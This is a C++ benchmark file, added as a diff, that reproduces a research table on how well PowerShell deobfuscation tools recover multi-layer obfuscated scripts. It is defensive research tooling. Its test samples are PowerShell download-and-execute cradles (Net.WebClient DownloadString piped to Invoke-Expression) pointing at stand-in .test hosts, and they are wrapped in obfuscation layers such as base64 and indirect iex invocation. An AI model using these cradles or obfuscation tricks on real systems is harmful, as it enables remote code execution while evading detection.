@@ -1,0 +1,163 @@
+// Reproduces Table III: ability to handle multiple layers of obfuscation.
+// Twelve multi-layer samples mirror the wild mix: 2 plain-literal layers
+// (within reach of simple overriding), 6 variable-free expression layers
+// (PowerDecode's unary-syntax-tree model), and 4 variable-indirected or
+// automatic-variable-invoked layers that need variable tracing.
+
+#include "bench_common.h"
+
+#include "baselines/baseline.h"
+#include "corpus/corpus.h"
+#include "obfuscator/obfuscator.h"
+#include "pslang/alias_table.h"
+#include "pslang/lexer.h"
+#include "psast/parser.h"
+
+namespace {
+
+using namespace ideobf;
+
+struct LayeredSample {
+  std::string script;
+  std::string truth_url;  // must reappear in a correct recovery
+};
+
+std::string quote(const std::string& s) {
+  std::string out = "'";
+  for (char c : s) {
+    if (c == '\'') out += "''";
+    else out.push_back(c);
+  }
+  return out + "'";
+}
+
+std::vector<LayeredSample> build_samples() {
+  std::vector<LayeredSample> samples;
+  CorpusGenerator gen(303);
+  Obfuscator obf(303);
+
+  auto inner_of = [&](bool oneliner) {
+    Sample s;
+    do {
+      s = Sample{};
+      CorpusGenerator g(gen.families().size() + samples.size() * 17 + 5);
+      // Deterministic per-index inner scripts with a URL ground truth.
+      s.original = oneliner
+                       ? "(New-Object Net.WebClient).DownloadString('http://host" +
+                             std::to_string(samples.size()) +
+                             ".test/x.ps1') | Invoke-Expression\n"
+                       : "$u = 'http://host" + std::to_string(samples.size()) +
+                             ".test/stage.ps1'\n$wc = New-Object Net.WebClient\n"
+                             "Invoke-Expression ($wc.DownloadString($u))\n";
+      s.ground_truth = extract_key_info(s.original);
+    } while (s.ground_truth.urls.empty());
+    return s;
+  };
+
+  // --- 2 plain-literal layers ---
+  for (int i = 0; i < 2; ++i) {
+    const Sample inner = inner_of(/*oneliner=*/i == 0);
+    LayeredSample ls;
+    ls.truth_url = *inner.ground_truth.urls.begin();
+    ls.script = quote(inner.original) + " | IeX";
+    samples.push_back(std::move(ls));
+  }
+
+  // --- 6 variable-free expression layers ---
+  const Technique kExpr[] = {Technique::Concat,  Technique::Reorder,
+                             Technique::Replace, Technique::Concat,
+                             Technique::Reorder, Technique::Concat};
+  for (int i = 0; i < 6; ++i) {
+    const Sample inner = inner_of(false);
+    LayeredSample ls;
+    ls.truth_url = *inner.ground_truth.urls.begin();
+    ls.script = "iex (" + obf.obfuscate_literal(kExpr[i], inner.original) + ")";
+    samples.push_back(std::move(ls));
+  }
+
+  // --- 4 layers needing variable tracing / automatic variables ---
+  for (int i = 0; i < 4; ++i) {
+    const Sample inner = inner_of(false);
+    LayeredSample ls;
+    ls.truth_url = *inner.ground_truth.urls.begin();
+    switch (i) {
+      case 0:
+        ls.script = "$stage = " + quote(inner.original) + "\niex $stage";
+        break;
+      case 1:
+        ls.script = "$p1 = " +
+                    obf.obfuscate_literal(Technique::Base64Encoding,
+                                          inner.original) +
+                    "\nInvoke-Expression $p1";
+        break;
+      case 2:
+        ls.script = ".($pshome[4]+$pshome[30]+'x') " + quote(inner.original);
+        break;
+      default:
+        ls.script = "$cmd = " + quote(inner.original) +
+                    "\n& ($env:ComSpec[4,24,25] -join '') $cmd";
+        break;
+    }
+    samples.push_back(std::move(ls));
+  }
+  return samples;
+}
+
+bool recovered(const LayeredSample& sample, const std::string& output) {
+  if (output == sample.script) return false;
+  if (!ps::is_valid_syntax(output)) return false;
+  // Correct recovery must expose the IOC *and* reconstruct the downloader
+  // as code: DownloadString has to reappear as a member token, not merely
+  // inside a still-wrapped string payload or an execution trace.
+  if (ps::to_lower(output).find(ps::to_lower(sample.truth_url)) ==
+      std::string::npos) {
+    return false;
+  }
+  bool ok = true;
+  for (const auto& t : ps::tokenize_lenient(output, ok)) {
+    if (t.type == ps::TokenType::Member &&
+        ps::iequals(t.content, "downloadstring")) {
+      return true;
+    }
+  }
+  return false;
+}
+
+void print_table() {
+  const auto samples = build_samples();
+  bench::heading(
+      "Table III: Ability to handle multiple layers of obfuscation\n"
+      "(12 multi-layer samples; recovered = valid output exposing the URL)");
+  const std::vector<int> widths = {22, 10, 12, 14};
+  bench::row({"Tool", "#Samples", "Proportion", "Paper"}, widths);
+  const char* paper[] = {"2 (16.7%)", "1 (8.3%)", "8 (66.7%)", "0 (0%)",
+                         "12 (100%)"};
+  int tool_index = 0;
+  for (const auto& tool : make_all_tools()) {
+    int hits = 0;
+    for (const LayeredSample& s : samples) {
+      const BaselineResult r = tool->run(s.script);
+      if (recovered(s, r.script)) ++hits;
+    }
+    bench::row({tool->name(), std::to_string(hits),
+                bench::pct(static_cast<double>(hits) / samples.size()),
+                paper[tool_index++]},
+               widths);
+  }
+}
+
+void BM_OursMultilayer(benchmark::State& state) {
+  const auto samples = build_samples();
+  auto ours = make_invoke_deobfuscation();
+  for (auto _ : state) {
+    benchmark::DoNotOptimize(ours->run(samples[7].script));
+  }
+}
+BENCHMARK(BM_OursMultilayer)->Unit(benchmark::kMillisecond);
+
+}  // namespace
+
+int main(int argc, char** argv) {
+  print_table();
+  return bench::run_benchmarks(argc, argv);
+}
